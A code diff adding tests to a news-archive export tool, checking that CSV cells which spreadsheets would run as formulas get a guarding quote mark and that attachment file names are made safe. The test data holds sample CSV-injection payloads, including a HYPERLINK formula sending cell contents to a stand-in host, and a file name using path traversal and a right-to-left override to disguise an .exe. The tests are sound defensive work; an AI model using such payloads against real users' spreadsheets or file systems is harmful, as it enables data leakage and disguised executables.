@@ -174,7 +174,8 @@ def test_csv_quoting_matches_the_csv_module_on_awkward_text(archive, tmp_path):
         awkward.execute("UPDATE articles SET summary = '' WHERE id = ?", [ids[0]])
     for fields in (["id", "title", "sapo", "author", "views"], ["summary"], ["author"], ["attachments", "title"]):
         out = io.StringIO(newline="")
-        export_articles(awkward, out, "csv", fields=fields, filters=None)
+        # Raw cells: the quoting is what is compared here (the author "\r" would otherwise get its formula guard).
+        export_articles(awkward, out, "csv", fields=fields, filters=None, csv_raw=True)
         records = jsonl(_jsonl(awkward, fields))
         reference = io.StringIO(newline="")
         writer = csv.writer(reference)
@@ -187,6 +188,86 @@ def test_csv_quoting_matches_the_csv_module_on_awkward_text(archive, tmp_path):
     by_id = {record["id"]: record for record in jsonl(_jsonl(awkward, ["id", "title", "sapo", "author"]))}
     assert [by_id[i]["title"] for i in ids] == [v[0] for v in values]
     awkward.close()
+
+
+def _copy(archive, tmp_path):
+    copy = tmp_path / "copy.db"
+    shutil.copy(archive, copy)
+    return copy, sqlite3.connect(copy)
+
+
+#: Cells a spreadsheet would run as formulas (OWASP, CSV injection), one per column, and a negative number.
+FORMULAS = {
+    "title": '=HYPERLINK("http://x.invalid/?q="&A1,"Bấm vào đây")',
+    "sapo": "+84 912 345 678",
+    "author": "-Nguyễn Văn A",
+    "category": "@SUM(A1:A9)",
+    "summary": "\tthụt đầu dòng",
+    "source": "\rTheo báo Quảng Ngãi",
+    "views": -5,
+}
+FORMULA_FIELDS = ["id", *FORMULAS, "body_html"]
+
+
+def test_csv_cells_a_spreadsheet_would_run_get_a_quote_mark(archive, tmp_path):
+    copy, conn = _copy(archive, tmp_path)
+    (article_id,) = conn.execute("SELECT min(id) FROM articles").fetchone()
+    with conn:
+        assignments = ", ".join(f"{name} = ?" for name in FORMULAS)
+        conn.execute(f"UPDATE articles SET {assignments}, body_html = '<p>=1+1</p>' WHERE id = ?",
+                     [*FORMULAS.values(), article_id])  # fmt: skip
+    conn.close()
+    fields = ",".join(FORMULA_FIELDS)
+    guarded = (
+        f'{article_id},"\'=HYPERLINK(""http://x.invalid/?q=""&A1,""Bấm vào đây"")",\'+84 912 345 678,'
+        "'-Nguyễn Văn A,'@SUM(A1:A9),'\tthụt đầu dòng,\"'\rTheo báo Quảng Ngãi\",-5,<p>=1+1</p>\r\n"
+    )
+    raw = (
+        f'{article_id},"=HYPERLINK(""http://x.invalid/?q=""&A1,""Bấm vào đây"")",+84 912 345 678,'
+        '-Nguyễn Văn A,@SUM(A1:A9),\tthụt đầu dòng,"\rTheo báo Quảng Ngãi",-5,<p>=1+1</p>\r\n'
+    )
+
+    def written(*options: str) -> str:
+        out = tmp_path / "out.csv"
+        result = export(copy, "--format", "csv", "--fields", fields, "--output", str(out), *options)
+        assert result.returncode == 0, result.stderr
+        return out.read_bytes().decode("utf-8")
+
+    header = f"{fields}\r\n"
+    assert written().startswith(header)
+    assert header + guarded in written()  # the first article's row, made by SQLite
+    assert raw not in written()
+    images = str(tmp_path / "images")
+    assert header + guarded in written("--images", images)  # the same through Python's csv module
+    assert header + raw in written("--csv-raw")  # exactly as stored, on request
+    assert header + raw in written("--csv-raw", "--images", images)
+    # JSON lines are exact: no JSON reader runs a formula.
+    records = jsonl(export(copy, "--format", "jsonl", "--fields", fields).stdout)
+    assert records[0] == {"id": article_id, **FORMULAS, "body_html": "<p>=1+1</p>"}
+    refused = export(copy, "--format", "jsonl", "--csv-raw")
+    assert refused.returncode == 2
+    assert "--csv-raw: only for --format csv" in refused.stderr
+
+
+def test_exported_attachment_names_are_made_safe_also_from_an_older_archive(archive, tmp_path):
+    """An archive stored before names were made safe holds them raw in attachments.filename: exports write them
+    made safe all the same."""
+    copy, conn = _copy(archive, tmp_path)
+    (sha,) = conn.execute("SELECT attachment_sha256 FROM article_attachments WHERE attachment_sha256 IS NOT NULL "
+                          "ORDER BY article_id, position LIMIT 1").fetchone()  # fmt: skip
+    with conn:
+        conn.execute("UPDATE attachments SET filename = ? WHERE sha256 = ?", ["../../..\\báo\u202egpj.exe\x07", sha])
+    conn.close()
+    names = {
+        entry["sha256"]: entry["filename"]
+        for record in jsonl(export(copy, "--format", "jsonl", "--fields", "attachments").stdout)
+        for entry in record["attachments"]
+    }
+    assert names[sha] == "báogpj.exe"
+    cells = export(copy, "--format", "csv", "--fields", "attachments").stdout
+    assert "báogpj.exe" in cells
+    assert "\u202e" not in cells
+    assert "../" not in cells
 
 
 def _jsonl(conn, fields) -> str:
